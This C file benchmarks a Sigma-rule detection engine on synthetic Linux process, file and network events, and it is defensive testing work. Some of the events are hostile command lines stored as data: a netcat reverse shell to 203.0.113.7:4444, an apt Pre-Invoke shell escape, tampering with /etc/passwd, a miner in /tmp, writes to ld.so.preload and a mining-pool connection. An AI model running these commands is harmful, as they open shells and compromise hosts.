/*
 * sigma_bench.c - how many events per second one core matches against
 * every loaded SigmaHQ Linux rule, through the ingest schema the server
 * uses.
 *
 *   sigma-bench --rules DIR... [--seconds N] [--events N]
 *
 * The events are a realistic mix built in memory before timing starts:
 * 70% process starts (shells, package tools, compilers, daemons, with
 * their command lines, parents, users and directories), 15% file changes,
 * 15% outbound connections; one event in 50 is built to match a rule
 * (netcat reverse shell, execution from /tmp, apt pre-invoke shell, a
 * mining pool, doas.conf written, ...).  Prints the rules loaded, the
 * events matched, the rate per core, and the machine.  Never writes a
 * file.
 */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

#include "bench_util.h"
#include "sigma.h"

#define BENCH_EVENTS_DEFAULT 20000
#define BENCH_EVENTS_MAX 1000000
#define BENCH_SECONDS_DEFAULT 5
#define BENCH_DIRS_MAX 16
#define BENCH_MALICIOUS_EVERY 50

struct bench_event {
	uint32_t category;
	struct mamori_sigma_slot slots[MAMORI_SIGMA_INGEST_NSLOTS];
};

static const char *const benign_proc[][3] = {
	/* executable, command line, parent */
	{"/usr/bin/ls", "ls -la /home/alice/src", "/bin/bash"},
	{"/usr/bin/grep", "grep -rn TODO src/", "/bin/bash"},
	{"/usr/bin/git", "git status --short", "/usr/bin/zsh"},
	{"/usr/bin/git", "git fetch origin main", "/usr/bin/zsh"},
	{"/usr/bin/python3", "python3 /opt/app/manage.py runserver 0.0.0.0:8000",
	    "/usr/lib/systemd/systemd"},
	{"/usr/bin/make", "make -j4 all", "/bin/bash"},
	{"/usr/bin/cc", "cc -O2 -c main.c -o main.o", "/usr/bin/make"},
	{"/usr/lib/gcc/x86_64-linux-gnu/12/cc1", "/usr/lib/gcc/x86_64-linux-"
	    "gnu/12/cc1 -quiet main.c -O2", "/usr/bin/cc"},
	{"/usr/bin/ssh", "ssh -p 2222 deploy@build.example.com", "/bin/bash"},
	{"/usr/bin/curl", "curl -fsSL https://api.example.com/v1/health",
	    "/usr/bin/bash"},
	{"/usr/sbin/cron", "/usr/sbin/cron -f", "/usr/lib/systemd/systemd"},
	{"/usr/bin/systemctl", "systemctl status nginx", "/bin/bash"},
	{"/usr/bin/apt-get", "apt-get install -y libyaml-dev", "/usr/bin/sudo"},
	{"/usr/bin/dpkg", "dpkg --status openssl", "/usr/bin/apt-get"},
	{"/usr/bin/vim", "vim /etc/hosts", "/bin/bash"},
	{"/usr/bin/tar", "tar -czf backup.tar.gz /srv/data", "/bin/sh"},
	{"/usr/bin/journalctl", "journalctl -u sshd --since today",
	    "/bin/bash"},
	{"/usr/bin/find", "find /var/log -name *.gz -mtime +30", "/bin/sh"},
	{"/usr/bin/node", "node /srv/web/server.js", "/usr/lib/systemd/systemd"},
	{"/usr/bin/docker", "docker ps --format {{.Names}}", "/bin/bash"},
	{"/usr/bin/ps", "ps -o pid,cmd -p 4242", "/bin/bash"},
	{"/usr/bin/cat", "cat /proc/meminfo", "/usr/bin/python3"},
	{"/usr/bin/sed", "sed -i s/foo/bar/ config.ini", "/bin/bash"},
	{"/usr/bin/rsync", "rsync -a /srv/data/ backup:/srv/data/",
	    "/usr/sbin/cron"},
};

static const char *const bad_proc[][3] = {
	{"/usr/bin/nc", "nc -e /bin/sh 203.0.113.7 4444", "/bin/bash"},
	{"/tmp/.x/kworkerd", "/tmp/.x/kworkerd -o pool:3333", "/bin/sh"},
	{"/usr/bin/apt-get", "apt-get update -o APT::Update::Pre-Invoke::="
	    "/bin/sh", "/bin/bash"},
	{"/usr/bin/base64", "base64 -d /tmp/payload.b64", "/bin/bash"},
	{"/usr/bin/chattr", "chattr -i /etc/passwd", "/bin/bash"},
};

static const char *const users[] = {"alice", "root", "www-data", "bob"};
static const char *const dirs[] = {"/home/alice/src", "/", "/srv/web",
    "/root"};
static const char *const benign_files[] = {
	"/home/alice/.cache/pip/http/a1/b2/c3", "/var/log/syslog",
	"/srv/web/static/app.js", "/home/bob/Documents/report.odt",
	"/var/lib/dpkg/status", "/tmp/tmp.Ab12Cd34",
};
static const char *const bad_files[] = {"/etc/doas.conf",
    "/etc/ld.so.preload"};
static const char *const benign_hosts[][2] = {
	{"api.github.com", "140.82.121.6"}, {"deb.debian.org", "151.101.2.132"},
	{"updates.example.com", "198.51.100.20"}, {"", "10.0.0.12"},
};

static void
put(struct bench_event *e, uint32_t slot, const char *v)
{
	e->slots[slot].value = v;
	e->slots[slot].len = strlen(v);
	e->slots[slot].present = 1;
}

static void
build_event(struct bench_event *e, size_t i, uint64_t *rnd)
{
	size_t kind, pick;
	int bad = i % BENCH_MALICIOUS_EVERY == BENCH_MALICIOUS_EVERY - 1;

	memset(e, 0, sizeof(*e));
	*rnd = *rnd * 6364136223846793005ULL + 1442695040888963407ULL;
	kind = (size_t)(*rnd >> 33) % 100;
	pick = (size_t)(*rnd >> 17);
	if (kind < 70) {
		const char *const *p = bad ?
		    bad_proc[pick % (sizeof(bad_proc) / sizeof(bad_proc[0]))] :
		    benign_proc[pick % (sizeof(benign_proc) /
		    sizeof(benign_proc[0]))];

		e->category = MAMORI_SIGMA_CAT_PROCESS_CREATION;
		put(e, MAMORI_SIGMA_SLOT_PROCESS_EXECUTABLE, p[0]);
		put(e, MAMORI_SIGMA_SLOT_PROCESS_COMMAND_LINE, p[1]);
		put(e, MAMORI_SIGMA_SLOT_PARENT_EXECUTABLE, p[2]);
		put(e, MAMORI_SIGMA_SLOT_PARENT_COMMAND_LINE, p[2]);
		put(e, MAMORI_SIGMA_SLOT_USER_NAME, users[pick % 4]);
		put(e, MAMORI_SIGMA_SLOT_PROCESS_WORKING_DIRECTORY,
		    dirs[pick % 4]);
		put(e, MAMORI_SIGMA_SLOT_PROCESS_PID, "4242");
		put(e, MAMORI_SIGMA_SLOT_PARENT_PID, "1");
	} else if (kind < 85) {
		e->category = MAMORI_SIGMA_CAT_FILE_EVENT;
		put(e, MAMORI_SIGMA_SLOT_FILE_PATH, bad ? bad_files[pick % 2] :
		    benign_files[pick % (sizeof(benign_files) /
		    sizeof(benign_files[0]))]);
		put(e, MAMORI_SIGMA_SLOT_PROCESS_EXECUTABLE, "/usr/bin/vim");
		put(e, MAMORI_SIGMA_SLOT_USER_NAME, users[pick % 4]);
	} else {
		const char *const *h = benign_hosts[pick % 4];

		e->category = MAMORI_SIGMA_CAT_NETWORK_CONNECTION;
		put(e, MAMORI_SIGMA_SLOT_DESTINATION_DOMAIN, bad ?
		    "pool.minexmr.com" : h[0]);
		put(e, MAMORI_SIGMA_SLOT_DESTINATION_IP, h[1]);
		put(e, MAMORI_SIGMA_SLOT_DESTINATION_PORT, bad ? "4444" : "443");
		put(e, MAMORI_SIGMA_SLOT_SOURCE_IP, "192.168.1.10");
		put(e, MAMORI_SIGMA_SLOT_SOURCE_PORT, "51234");
		put(e, MAMORI_SIGMA_SLOT_NETWORK_TRANSPORT, "tcp");
		put(e, MAMORI_SIGMA_SLOT_INITIATED, "true");
		put(e, MAMORI_SIGMA_SLOT_PROCESS_EXECUTABLE, "/usr/bin/curl");
	}
}

/* The machine line as this program has always printed it ("CPUs online",
 * nothing when uname fails). */
static void
print_machine(void)
{
	struct bench_machine m;

	if (bench_machine_get(&m) == 0)
		printf("machine: %s %s %s, %ld CPUs online, %s\n",
		    m.uts.sysname, m.uts.release, m.uts.machine, m.cores,
		    m.model);
}

static int
usage(void)
{
	fprintf(stderr, "usage: sigma-bench --rules DIR... [--seconds N] "
	    "[--events N]\n");
	return 2;
}

int
main(int argc, char **argv)
{
	const char *rules[BENCH_DIRS_MAX];
	struct mamori_sigma_ruleset *rs = NULL;
	struct mamori_sigma_matcher *m = NULL;
	struct mamori_sigma_schema schema;
	struct bench_event *ev = NULL;
	size_t nrules = 0, nevents = BENCH_EVENTS_DEFAULT, i, n, matched = 0;
	double seconds = BENCH_SECONDS_DEFAULT, t0, t, rate, c0, cpu;
	uint64_t done = 0, hits = 0, rnd = 42;
	const uint32_t *res;
	char *end;
	int a, in_rules = 0, ret = 1;

	for (a = 1; a < argc; a++) {
		if (strcmp(argv[a], "--rules") == 0) {
			in_rules = 1;
		} else if (strcmp(argv[a], "--seconds") == 0 && a + 1 < argc) {
			in_rules = 0;
			seconds = strtod(argv[++a], &end);
			if (*end != '\0' || seconds <= 0 || seconds > 3600)
				return usage();
		} else if (strcmp(argv[a], "--events") == 0 && a + 1 < argc) {
			in_rules = 0;
			nevents = strtoul(argv[++a], &end, 10);
			if (*end != '\0' || nevents == 0 ||
			    nevents > BENCH_EVENTS_MAX)
				return usage();
		} else if (in_rules && nrules < BENCH_DIRS_MAX &&
		    argv[a][0] != '-')
			rules[nrules++] = argv[a];
		else
			return usage();
	}
	if (nrules == 0)
		return usage();
	mamori_sigma_ingest_schema(&schema);
	t0 = bench_wall_seconds();
	if (mamori_sigma_ruleset_new(&schema, &rs) != 0)
		goto out;
	for (i = 0; i < nrules; i++)
		if (mamori_sigma_ruleset_add_path(rs, rules[i]) != 0) {
			fprintf(stderr, "sigma-bench: cannot load %s\n",
			    rules[i]);
			goto out;
		}
	if (mamori_sigma_ruleset_compile(rs) != 0 ||
	    mamori_sigma_matcher_new(rs, &m) != 0)
		goto out;
	printf("rules: %zu loaded, %zu unsupported (auditd, builtin, "
	    "unmapped fields), compiled in %.2f s\n",
	    mamori_sigma_ruleset_loaded(rs), mamori_sigma_ruleset_count(rs) -
	    mamori_sigma_ruleset_loaded(rs), bench_wall_seconds() - t0);
	if ((ev = calloc(nevents, sizeof(*ev))) == NULL)
		goto out;
	for (i = 0; i < nevents; i++)
		build_event(&ev[i], i, &rnd);
	for (i = 0; i < nevents; i++) {
		if (mamori_sigma_match(m, ev[i].category, ev[i].slots,
		    MAMORI_SIGMA_INGEST_NSLOTS, &res, &n) != 0)
			goto out;
		matched += n > 0;
	}
	printf("events: %zu distinct (70%% process, 15%% file, 15%% network; "
	    "1 in %d built to match), %zu matched at least one rule\n",
	    nevents, BENCH_MALICIOUS_EVERY, matched);
	t0 = bench_wall_seconds();
	c0 = bench_clock_seconds(CLOCK_THREAD_CPUTIME_ID);
	do {
		for (i = 0; i < nevents; i++) {
			if (mamori_sigma_match(m, ev[i].category, ev[i].slots,
			    MAMORI_SIGMA_INGEST_NSLOTS, &res, &n) != 0)
				goto out;
			hits += n;
		}
		done += nevents;
		t = bench_wall_seconds() - t0;
	} while (t < seconds);
	/* Per core: divided by the CPU time this thread got, since the
	 * machine may be shared; the wall-clock rate is printed too. */
	cpu = bench_clock_seconds(CLOCK_THREAD_CPUTIME_ID) - c0;
	rate = (double)done / cpu;
	printf("sigma match: %llu events, %.2f s of CPU on one core (%.2f s "
	    "wall): %.0f events/s per core (%.0f ns/event; %.0f events/s by "
	    "the wall clock), %llu rule matches\n", (unsigned long long)done,
	    cpu, t, rate, 1e9 / rate, (double)done / t,
	    (unsigned long long)hits);
	print_machine();
	ret = 0;
out:
	if (ret != 0)
		fprintf(stderr, "sigma-bench: failed\n");
	free(ev);
	mamori_sigma_matcher_free(m);
	mamori_sigma_ruleset_free(rs);
	return ret;
}
